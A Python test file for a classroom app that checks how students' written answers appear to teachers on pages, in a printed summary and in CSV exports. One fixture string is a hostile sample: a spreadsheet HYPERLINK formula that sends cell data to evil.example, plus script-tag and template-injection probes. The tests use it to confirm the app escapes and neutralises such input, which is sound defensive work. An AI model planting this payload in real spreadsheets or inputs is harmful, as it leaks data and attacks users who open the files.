"""What students wrote in their own words, as teachers read it: on pages, in a summary to print, and in CSV files."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest

from tests.helpers.answer_keys import KEY
from tests.helpers.class_sheet import HALF, press
from tests.helpers.html_page import Page
from tests.helpers.open_questions import HEADS, TWO_HEADS, WHY, WHY_K, asking_content, open_with_questions
from tests.helpers.school import Classroom

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"K")\n-1+1;@SUM(A1)\n</textarea><script>alert(1)</script> {{ 7*7 }}'


@pytest.fixture
def answered(classroom: Classroom) -> Classroom:
    """Kim wrote twice and handed in, Lou wrote something hostile and only checked, Mia did not write."""
    activity = open_with_questions(classroom)
    _, kim = classroom.join("Kim")
    press(kim, activity, "check", {**HALF, WHY_K: "Not sure yet."})
    press(kim, activity, "hand-in", {**KEY, WHY_K: "One row per token."})
    _, lou = classroom.join("Lou")
    press(lou, activity, "check", {**HALF, WHY_K: HOSTILE, TWO_HEADS: "More columns."})
    _, mia = classroom.join("Mia")
    press(mia, activity, "hand-in", {**KEY, WHY_K: " "})
    return classroom


def test_a_teacher_reads_all_answers_to_a_question_and_those_of_a_student(answered: Classroom) -> None:
    links = {text: attrs["href"] for attrs, text in answered.page("/results").find("a")}
    listed = Page(answered.get(links[WHY.text]))
    assert listed.text("h1") == WHY.text
    [kim, lou] = [text for _, text in listed.find("li") if text.startswith(("Kim", "Lou", "Mia"))]
    assert kim.endswith("One row per token.")
    assert "Not sure" not in kim
    assert "</textarea><script>alert(1)</script> {{ 7*7 }}" in lou
    assert "not handed in" in lou
    student = next(each for each in answered.school.store.roster.students(answered.course) if each.name == "Kim")
    history = answered.page(f"/results/{student.id}")
    texts = [text for _, text in history.find("li")]
    assert ["Not sure" in text for text in texts if "Not sure" in text or "One row" in text] == [True, False]


def test_the_summary_prints_answers_without_names(answered: Classroom) -> None:
    assert not answered.page("/summary").find("blockquote")
    shown = answered.page("/summary?answers=shown")
    assert "One row per token." in [text for _, text in shown.find("blockquote")]
    assert "Kim" not in shown.text("article")


def test_files_have_the_answers_and_no_formula(answered: Classroom) -> None:
    exports = f"/courses/{answered.course.id}/exports"
    text = answered.get(f"{exports}/written-answers.csv")
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert [(row["student"], row["attempt"], row["question"]) for row in rows] == [
        ("Kim", "1", WHY.text), ("Kim", "2", WHY.text), ("Lou", "1", WHY.text), ("Lou", "1", HEADS.text),
    ]  # fmt: skip
    assert {line[0] for line in rows[2]["answer"].splitlines()[:2]} == {"'"}
    assert "'@SUM" in rows[2]["answer"]
    assert "question." not in answered.get(f"{exports}/answers.csv")
    archive = zipfile.ZipFile(io.BytesIO(answered.instructor.get(f"{exports}/course.zip").content))
    assert archive.read("written-answers.csv").decode("utf-8-sig").count("One row per token.") == 1
    activity = json.loads(archive.read(f"activities/{answered.activity.id}.json"))
    assert activity["attempts"][1]["answers"][WHY_K] == "One row per token."


def test_an_answer_outlives_its_question(answered: Classroom) -> None:
    content = asking_content(answered.school.library, WHY)
    answered.store.activities.revise(answered.activity, content)
    page = answered.page("/results/written?sheet=1&question=heads")
    assert [text.endswith("More columns.") for _, text in page.find("li") if text.startswith("Lou")] == [True]
